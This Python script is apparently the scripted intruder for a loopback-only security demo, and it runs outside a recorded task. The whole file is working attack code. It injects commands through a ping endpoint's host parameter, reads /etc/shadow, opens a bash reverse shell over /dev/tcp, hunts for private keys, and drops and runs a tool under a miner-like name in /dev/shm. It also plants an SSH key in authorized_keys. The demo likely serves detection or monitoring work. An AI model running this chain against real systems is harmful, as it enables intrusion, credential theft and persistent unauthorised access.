#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The intruder of the demo, over loopback only: command injection, reverse shell, credential read, a tool
dropped and run, a key added. It runs outside the recorded task.

usage: attack.py VICTIM_PORT HOME_OF_THE_VICTIM
"""
import socket
import sys
import time
import urllib.parse
import urllib.request


def inject(port, command):
    url = f'http://127.0.0.1:{port}/ping?host=' + urllib.parse.quote('x; ' + command)
    with urllib.request.urlopen(url, timeout=30) as r:
        return r.read().decode(errors='replace')


def read_for(sock, seconds):
    sock.settimeout(seconds)
    data = b''
    try:
        while True:
            piece = sock.recv(65536)
            if not piece:
                break
            data += piece
    except TimeoutError:
        pass
    return data


def shell_session(listener, lines):
    conn, _ = listener.accept()
    read_for(conn, 0.3)
    for line in lines:
        conn.sendall(line.encode() + b'\n')
        read_for(conn, 0.25)
    conn.close()


def main():
    port, home = int(sys.argv[1]), sys.argv[2]
    say = lambda text: print('  intruder:', text, flush=True)

    say('looks around:    ' + inject(port, 'id').split('\n')[1])
    shadow = inject(port, 'head -1 /etc/shadow').split('\n')[1]
    say('reads shadow:    ' + shadow[:20] + '...')

    listener = socket.socket()
    listener.bind(('127.0.0.1', 0))
    listener.listen(1)
    back = listener.getsockname()[1]
    inject(port, f"(bash -c 'bash -i >& /dev/tcp/127.0.0.1/{back} 0>&1' &) >/dev/null 2>&1; sleep 0.1")
    say(f'reverse shell on port {back}')
    shell_session(listener, [
        'uname -a; id',
        f"find {home} /etc/ssl -maxdepth 2 -name id_rsa -o -maxdepth 2 -name '*.pem' 2>/dev/null | head -3",
        'cp /bin/sleep /dev/shm/kdevtmpfsi; chmod +x /dev/shm/kdevtmpfsi',
        '/dev/shm/kdevtmpfsi 0.2',
        f'mkdir -p {home}/.ssh; chmod 700 {home}/.ssh',
        f'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoDemoDemo x@host" >> {home}/.ssh/authorized_keys',
        'rm -f /dev/shm/kdevtmpfsi; exit',
    ])
    say('dropped a tool in /dev/shm, ran it, added a key')
    time.sleep(0.2)
    urllib.request.urlopen(f'http://127.0.0.1:{port}/quit', timeout=10).read()


main()
